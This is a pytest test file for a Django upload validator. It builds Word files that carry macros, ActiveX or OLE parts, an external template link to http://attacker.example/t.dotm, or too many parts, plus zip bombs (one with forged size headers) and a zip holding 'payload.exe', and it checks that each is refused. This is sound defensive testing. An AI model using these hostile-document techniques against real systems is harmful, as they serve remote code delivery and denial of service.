"""core.uploads: every upload judged by its content; Word files opened as zips and refused
for macros, external relationships, too many parts or a zip bomb, wherever they are
uploaded (incident attachments, MOU documents)."""

import io
import zipfile

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile

from core.uploads import DOCX, PDF, validate_upload
from incidents.models import ALLOWED_ATTACHMENT_TYPES

CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
    'content-types"><Default Extension="xml" ContentType="application/xml"/><Override '
    'PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.'
    'wordprocessingml.document.main+xml"/></Types>'
)
RELS = (
    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
    'relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/'
    '2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>'
)
DOCUMENT = (
    '<?xml version="1.0"?><w:document><w:body><w:p><w:r><w:t>Statement</w:t></w:r></w:p></w:body>'
    "</w:document>"
)
EXTERNAL_RELS = (
    '<?xml version="1.0"?><Relationships><Relationship Id="rId9" Type="http://schemas.openxmlformats.org/'
    'officeDocument/2006/relationships/attachedTemplate" Target="http://attacker.example/t.dotm" '
    'TargetMode="External"/></Relationships>'
)


def docx(extra: dict[str, bytes | str] | None = None, *, content_types: str = CONTENT_TYPES) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", content_types)
        archive.writestr("_rels/.rels", RELS)
        archive.writestr("word/document.xml", DOCUMENT)
        for name, data in (extra or {}).items():
            archive.writestr(name, data)
    return buffer.getvalue()


def upload(data: bytes, name: str = "statement.docx") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, data, DOCX)


def refusal(data: bytes, name: str = "statement.docx") -> ValidationError:
    with pytest.raises(ValidationError) as caught:
        validate_upload(upload(data, name), accept=ALLOWED_ATTACHMENT_TYPES)
    return caught.value


def test_a_plain_word_document_is_accepted():
    assert validate_upload(upload(docx()), accept=ALLOWED_ATTACHMENT_TYPES) == DOCX


def test_a_word_document_with_a_macro_project_is_refused():
    error = refusal(docx({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0 macro"}))
    assert error.code == "macros"
    assert "contains macros" in error.message


def test_a_macro_enabled_document_renamed_to_docx_is_refused():
    macro_types = CONTENT_TYPES.replace("document.main+xml", "document.macroEnabled.main+xml")
    assert refusal(docx(content_types=macro_types)).code == "macros"


@pytest.mark.parametrize("part", ["word/activeX/activeX1.bin", "word/embeddings/oleObject1.bin"])
def test_activex_and_embedded_programs_are_refused(part):
    assert refusal(docx({part: b"\x00binary"})).code == "macros"


def test_a_document_with_an_external_relationship_is_refused():
    error = refusal(docx({"word/_rels/settings.xml.rels": EXTERNAL_RELS}))
    assert error.code == "external_relationship"
    assert "links to content outside the file" in error.message


def test_a_document_with_too_many_parts_is_refused(settings):
    settings.UPLOAD_MAX_ARCHIVE_ENTRIES = 20
    error = refusal(docx({f"word/media/image{i}.png": b"x" for i in range(30)}))
    assert error.code == "too_many_entries"


def test_a_zip_bomb_is_refused_by_its_unpacked_size(settings):
    settings.UPLOAD_MAX_UNPACKED_BYTES = 1024 * 1024
    bomb = docx({"word/media/padding.xml": b"\0" * (8 * 1024 * 1024)})
    assert len(bomb) < 20_000  # small on the wire
    error = refusal(bomb)
    assert error.code == "too_large_unpacked"
    assert "zip bomb" in error.message


def test_a_zip_bomb_that_lies_about_its_sizes_is_still_caught(settings):
    settings.UPLOAD_MAX_UNPACKED_BYTES = 1024 * 1024
    bomb = bytearray(docx({"word/media/padding.xml": b"\0" * (4 * 1024 * 1024)}))
    # Rewrite the declared uncompressed size (local header and central directory) to 1 byte.
    declared = (4 * 1024 * 1024).to_bytes(4, "little")
    assert bomb.count(declared) == 2
    bomb = bytes(bomb).replace(declared, (1).to_bytes(4, "little"))
    assert refusal(bomb).code in ("too_large_unpacked", "damaged")


def test_a_zip_that_is_not_a_word_document_is_refused():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("payload.exe", b"MZ")
    assert refusal(buffer.getvalue()).code in ("wrong_type", "macros")


def test_a_damaged_archive_is_refused():
    assert refusal(b"PK\x03\x04" + b"garbage" * 100).code == "damaged"


def test_a_pdf_named_docx_is_refused():
    error = refusal(b"%PDF-1.4 not a word file")
    assert "does not contain what its name says (.docx)" in error.message


def test_a_pdf_is_still_a_pdf():
    assert validate_upload(SimpleUploadedFile("a.pdf", b"%PDF-1.4 x"), accept={".pdf"}) == PDF
